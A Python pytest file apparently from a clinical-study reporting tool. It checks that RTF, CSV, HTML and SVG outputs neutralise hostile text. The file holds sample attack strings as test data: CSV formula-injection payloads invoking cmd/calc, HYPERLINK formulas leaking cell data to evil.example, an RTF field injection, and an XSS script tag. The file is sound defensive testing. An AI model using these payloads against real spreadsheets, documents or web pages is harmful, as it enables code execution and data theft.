"""Output safety: RTF text escaped and readable back, no CSV cell a spreadsheet would run, HTML and SVG escaped."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from cartalysis.report.build import build_report
from cartalysis.report.model import Cell, Row, Table
from cartalysis.report.render import rtf_escape, write_csv, write_rtf
from cartalysis.study.safe_output import FORMULA_START, neutralise

from rtf_reader import DANGEROUS, RTFError, read_rtf  # noqa: E402  (tests/report is on sys.path under pytest)

SCRIPT = '<script>alert("x")</script>'
RTF_FIELD = '{\\field{\\*\\fldinst HYPERLINK "http://evil.example"}{\\fldrslt click}}\\par }'
NASTY = [
    f"{SCRIPT} site",
    '=HYPERLINK("http://evil.example?x="&A1,"Neutropenia")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed",
    "\rReturn",
    RTF_FIELD,
    "Fièvre neutropénique 中性粒细胞减少 😀",
    "brace } only",
]
# in a study, a cell's leading tab is trimmed and a carriage return is a data problem
IN_DATA = [t for t in NASTY if not t.startswith(("\r", "\t"))]


def test_neutralise_follows_owasp_and_keeps_numbers():
    assert neutralise("=1+1") == "'=1+1" and neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0" and neutralise("\tx") == "'\tx"
    assert neutralise("\rx") == "'\rx" and neutralise("-x") == "'-x"
    for number in ("-1.5", "+3", "-0.25e-3", "-.5", "12", "-inf"):
        assert neutralise(number) == number
    assert neutralise("Grade 3") == "Grade 3" and neutralise("") == ""


@pytest.mark.parametrize("text", NASTY + ["a\\b", "{}", "x\ny", "\x00nul\x07", "", "ASCII"])
def test_rtf_escape_round_trips(tmp_path, text):
    table = Table(key="t", title=f"Title {text}", header=(Cell("Term"), Cell(text)),
                  rows=(Row((Cell(text), Cell("1 (50.0)"))),), footnotes=(f"Note {text}",))
    path = write_rtf(table, tmp_path / "t.rtf")
    pieces, words = read_rtf(path.read_text(encoding="ascii"))  # escaped RTF is 7-bit ASCII
    expected = text.replace("\x00", "\ufffd").replace("\x07", "\ufffd").replace("\r", "\ufffd")
    assert f"Title {expected}" in pieces and expected in pieces and f"Note {expected}" in pieces
    assert not words & DANGEROUS


def test_unescaped_rtf_is_caught_by_the_reader():
    with pytest.raises(RTFError):
        read_rtf("{\\rtf1 {\\f0 brace } only}}")
    _, words = read_rtf("{\\rtf1 " + RTF_FIELD.removesuffix("\\par }") + "}")
    assert "field" in words


def test_rtf_escape_units():
    assert rtf_escape("é") == "\\u233?" and rtf_escape("😀") == "\\u-10179?\\u-8704?"
    assert rtf_escape("\\{}") == "\\\\\\{\\}"


def test_csv_table_cells_are_neutralised(tmp_path):
    table = Table(key="t", title="t", header=(Cell("Term"), Cell("n")),
                  rows=tuple(Row((Cell(t), Cell("-1.5"))) for t in NASTY))
    cells = [c for row in csv.reader(io.StringIO(write_csv(table, tmp_path / "t.csv").read_text("utf-8"))) for c in row]
    assert "-1.5" in cells
    _assert_no_formula(cells)


def _assert_no_formula(cells):
    bad = [c for c in cells if c.startswith(FORMULA_START) and neutralise(c) != c]
    assert not bad, bad


def _rewrite(folder: Path, table: str, change) -> None:
    path = folder / f"{table}.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    header, body = rows[0], rows[1:]
    body = [change(dict(zip(header, r)), i) for i, r in enumerate(body)]
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(header)
    w.writerows([[r[h] for h in header] for r in body])
    path.write_text(buf.getvalue(), encoding="utf-8")


@pytest.fixture
def hostile_report(small_study, tmp_path):
    """The small study with script, formula and RTF-control text in the site names, AE terms and SOCs."""

    def site(r, i):
        r["site"] = NASTY[0] if r["site"] == "S1" else "=HYPERLINK(\"http://evil.example\")"
        return r

    _rewrite(small_study, "subjects", site)
    buf = io.StringIO()  # one treatment-emergent AE of patient P01 (infused 2021-02-15) per hostile term
    csv.writer(buf, lineterminator="\n").writerows(
        ["P01", term, f"{SCRIPT} {IN_DATA[(i + 3) % len(IN_DATA)]}", f"2021-03-{i + 1:02d}", "", "2", "no", "no"]
        for i, term in enumerate(IN_DATA))
    with open(small_study / "adverse_events.csv", "a", encoding="utf-8") as f:
        f.write(buf.getvalue())
    from cartalysis.study.validate import validate_study

    errors = [str(p) for p in validate_study(small_study) if not p.is_warning]
    assert not errors, "\n".join(errors)
    before = {p.name: p.read_bytes() for p in small_study.iterdir()}
    out = tmp_path / "out"
    build_report(small_study, out)
    assert {p.name: p.read_bytes() for p in small_study.iterdir()} == before
    return out


def test_hostile_text_is_safe_in_every_output(hostile_report):
    out = hostile_report
    csvs = sorted(out.rglob("*.csv"))
    assert csvs and any("derived" in p.parts for p in csvs)
    for p in csvs:
        _assert_no_formula([c for row in csv.reader(io.StringIO(p.read_text("utf-8"))) for c in row])
    text = "\n".join(p.read_text("utf-8") for p in csvs)
    assert "'=HYPERLINK" in text  # the text is kept, only neutralised

    rtfs = sorted(out.rglob("*.rtf"))
    assert rtfs
    seen = []
    for p in rtfs:
        pieces, words = read_rtf(p.read_text(encoding="ascii"))
        # the whole-report document embeds the figures as pictures (\pict: image data, not code); fields and
        # objects stay forbidden everywhere
        allowed = {"pict"} if p.name == "report.rtf" else set()
        assert not words & (DANGEROUS - allowed), p.name
        seen += pieces
    assert any(RTF_FIELD in s for s in seen) and any("中性粒细胞减少" in s for s in seen), [s for s in seen if "HYPER" in s or "ve" in s]

    html = (out / "report.html").read_text("utf-8")
    assert SCRIPT not in html and "<script" not in html
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in html
    for svg in out.rglob("*.svg"):
        body = svg.read_text("utf-8")
        assert "<script" not in body and "alert(" not in body or "&lt;script" in body, svg.name
